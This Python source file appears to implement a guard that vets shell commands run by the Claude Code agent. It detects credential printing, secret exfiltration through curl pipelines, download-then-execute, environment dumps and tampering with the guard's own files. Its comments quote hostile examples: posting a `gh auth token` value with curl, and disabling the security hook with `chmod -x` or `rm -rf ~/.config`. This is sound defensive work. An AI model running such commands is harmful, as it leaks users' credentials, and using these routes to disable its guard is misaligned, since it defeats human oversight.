    return [other for other in _view(subject).analysis.segments if _substituted(seg, other)]


@_spec(
    "output_sent_over_network",
    "this command's output is sent over the network in a URL or body: piped to a network "
    "command, or substituted into one's words other than a header or credentials option",
)
def _output_sent_over_network(args: tuple[str, ...], config: Config) -> Check:
    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None:
            return False
        for receiver in _later_in_pipeline(subject):
            if is_network_sink(receiver) and not _uses_piped_in_header(receiver) and not _logs_in(receiver):
                return True
        if any(
            is_network_sink(receiver) and any(seg.source in word for word in payload_words(receiver))
            for receiver in _substituted_into(subject, seg)
        ):
            return True
        return _sent_through_variable(subject)

    return check


def _sent_through_variable(subject: Subject) -> bool:
    """`T=$(gh auth token); curl -d "t=$T" …`: a variable holding the command's output is
    in a network command's URL or body (not a header or credentials option)."""
    analysis = _view(subject).analysis
    index = _index(subject)
    for flow in analysis.flows:
        if flow.source != index:
            continue
        receiver = analysis.segments[flow.receiver]
        if is_network_sink(receiver) and any(refers_to(w, flow.variable) for w in payload_words(receiver)):
            return True
    return False


_STDIN_SECRET_OPTIONS = frozenset({"--with-token", "--password-stdin", "--stdin", "--token-stdin"})


def _logs_in(receiver: Segment) -> bool:
    """`… | gh auth login --with-token`, `… | docker login --password-stdin`: a login that
    reads its token from the pipe, which is how such a token is meant to be used."""
    return "login" in receiver.argv and not _STDIN_SECRET_OPTIONS.isdisjoint(receiver.argv)


def _uses_piped_in_header(receiver: Segment) -> bool:
    """`… | xargs -I{} curl -H "Authorization: Bearer {}" …`: what the pipe gives goes in a header."""
    return receiver.context == "xargs" and not any("{}" in word for word in payload_words(receiver)) and any(
        "{}" in word for word in receiver.argv
    )


@_spec(
    "prints_credential",
    "the command prints a credential: `gh auth token`, `gcloud auth print-access-token`, "
    "`aws configure get aws_secret_access_key`, a keychain or password-store lookup, ...",
)
def _prints_credential(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and prints_credential(seg)


# Commands that pass what they are given on to their output, changed or not: what is
# piped through them is still printed.
PASS_THROUGH = frozenset({
    "cat", "tac", "base64", "basenc", "base32", "head", "tail", "tr", "cut", "xxd", "od", "hexdump",
    "rev", "tee", "sed", "awk", "gawk", "jq", "yq", "grep", "sort", "uniq", "fold", "column", "less",
    "more", "nl", "fmt", "paste", "strings",
})
_TO_TERMINAL = ("/dev/stdout", "/dev/stderr", "/dev/tty")
_TO_FILE = frozenset({">", ">>", ">|", "&>", "&>>"})


def output_shown(analysis: ShellAnalysis, seg: Segment) -> bool:
    """What the command prints is what the whole command prints (to the conversation): it
    is not substituted into another command, redirected to a file, or piped into a program
    other than a filter that passes it on (`| base64`, `| head`)."""
    if seg.context in SUBSTITUTIONS or not _prints_to_terminal(seg):
        return False
    if not 0 <= seg.pipeline < len(analysis.pipelines):
        return True
    segments = analysis.segments
    later = [segments[i] for i in analysis.pipelines[seg.pipeline] if segments[i].position > seg.position]
    return all(m.name in PASS_THROUGH and _prints_to_terminal(m) for m in later)


def _prints_to_terminal(seg: Segment) -> bool:
    """The command's standard output is not redirected to a file."""
    return not any(
        r.op in _TO_FILE and r.fd in (None, 1) and not r.target.startswith(("&", *_TO_TERMINAL))
        for r in seg.redirects
    )


@_spec(
    "output_shown",
    "what the command prints reaches the conversation: not substituted, redirected to a "
    "file or piped into a program other than a filter such as base64 or head",
)
def _output_shown(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and output_shown(_view(s).analysis, seg)


@_spec("pipeline_network_sink", "a command in the same pipeline sends data over the network")
def _pipeline_network_sink(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: any(is_network_sink(m) for m in _pipeline_members(s))


@_spec("command_reads_secret", "some command anywhere in the string reads a credential file")
def _command_reads_secret(args: tuple[str, ...], config: Config) -> Check:
    sensitive = _sensitive(config)
    return lambda s: bool(secret_readers(s, sensitive))


@_spec("command_network_sink", "some command anywhere in the string sends data over the network")
def _command_network_sink(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: any(is_network_sink(seg) for seg in _view(s).analysis.segments)


@_spec("env_dump", "the command prints the whole environment (env, printenv, export -p, ...)")
def _env_dump(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and is_env_dump(seg)


def _later_in_pipeline(subject: Subject) -> list[Segment]:
    seg = _segment(subject)
    return [m for m in _pipeline_members(subject) if seg is not None and m.position > seg.position]


def _earlier_in_pipeline(subject: Subject) -> list[Segment]:
    seg = _segment(subject)
    return [m for m in _pipeline_members(subject) if seg is not None and m.position < seg.position]


@_spec("piped_to", "this command's output flows (directly or not) into one of these commands", (1, None))
def _piped_to(args: tuple[str, ...], config: Config) -> Check:
    matches = _names(args)
    return lambda s: any(matches(m.name) for m in _later_in_pipeline(s))


@_spec(
    "piped_to_code",
    "this command's output flows into one of these interpreters as its program "
    "(sh with no script or with -s, python -, ...; not python -c or a script file)",
    (1, None),
)
def _piped_to_code(args: tuple[str, ...], config: Config) -> Check:
    matches = _names(args)
    return lambda s: any(matches(m.name) and reads_program_from_stdin(m) for m in _later_in_pipeline(s))


@_spec(
    "program_from",
    "the command is an interpreter (shell, python, node, perl, ruby, php) that takes its "
    "program from one of: inline (-c, -e), stdin, file",
    (1, None),
)
def _program_from(args: tuple[str, ...], config: Config) -> Check:
    sources = frozenset(args)
    if not sources <= {"inline", "stdin", "file"}:
        raise ValueError("sources are inline, stdin and file")
    return lambda s: (seg := _segment(s)) is not None and program_source(seg) in sources


@_spec("piped_from", "this command reads the output of one of these commands", (1, None))
def _piped_from(args: tuple[str, ...], config: Config) -> Check:
    matches = _names(args)
    return lambda s: any(matches(m.name) for m in _earlier_in_pipeline(s))


@_spec("write_then_exec", "a file written earlier in the command is executed later in it")
def _write_then_exec(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: bool(_view(s).analysis.write_then_exec)


@_spec(
    "download_then_exec",
    "a file a downloader (curl, wget, ...) wrote earlier in the command is executed later in it",
)
def _download_then_exec(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: bool(_view(s).analysis.download_then_exec)


# -- interpreter one-liners ------------------------------------------------------------------


@_spec("inline", "an interpreter one-liner calls something of a kind: delete, exec, network, env", (1, None))
def _inline(args: tuple[str, ...], config: Config) -> Check:
    kinds = frozenset(args)
    key = ("inline", kinds)

    def check(subject: Subject) -> bool:
        return _once(subject, key, lambda: any(f.kind in kinds for f in _view(subject).inline_findings))

    return check


@_spec(
    "inline_target",
    "a one-liner's call of a kind (first argument) acts on a path of one of the "
    "target kinds (the rest); a path given by a variable counts as unknown",
    (2, None),
)
def _inline_target(args: tuple[str, ...], config: Config) -> Check:
    kind, kinds = args[0], _kinds(args[1:])
    key = ("inline_target", kind, kinds)

    def check(subject: Subject) -> bool:
        return _once(subject, key, lambda: _inline_targets(subject, kind, kinds))

    return check


def _inline_targets(subject: Subject, kind: str, kinds: frozenset[str]) -> bool:
    for finding in _view(subject).inline_findings:
        if finding.kind != kind:
            continue
        target = finding.argument
        found = TargetKind.UNKNOWN if not target else _path_kind(subject, target, subject.event.cwd)
        if found.value in kinds:
            return True
    return False


# Commands that take a file away, or change who may read or run it: what the edit rules
# (which see what is written) do not. `chmod -x ~/.local/bin/security-hook` leaves
# Claude Code a hook it cannot run, which it treats as no hook at all.
GUARD_REMOVERS = frozenset("rm rmdir unlink shred srm mv".split())
GUARD_TAMPERERS = GUARD_REMOVERS | frozenset("chmod chown chgrp chattr setfacl truncate".split())


@_spec(
    "changes_guard_file",
    "the command deletes, moves, truncates or changes the mode or owner of Claude Code's "
    "settings or the guard's own files, or of a directory holding them",
)
def _changes_guard_file(args: tuple[str, ...], config: Config) -> Check:
    dirs = guard_dirs(config)
    extra = config.strings("paths.protected")

    def check(subject: Subject) -> bool:
        segment = _segment(subject)
        if segment is None or segment.name not in GUARD_TAMPERERS:
            return False
        event = subject.event
        moved = removed_sources(segment)  # `mv`: its sources, not where they go
        for word in moved if moved is not None else operands(segment):
            path = resolve(word, segment.cwd or event.cwd, event.home)
            if path is None:
                continue
            holds = [path]
            if posixpath.basename(path) == ".claude":
                holds.append(path + "/settings.json")  # the directory the settings live in
            if any(is_guard_file(p, subject, dirs, extra) for p in holds):
                return True
            if segment.name in GUARD_REMOVERS and any(
                d == path or d.startswith(path.rstrip("/") + "/") for d in dirs
            ):
                return True  # `rm -rf ~/.config` takes the guard's config with it
        return False

    return check
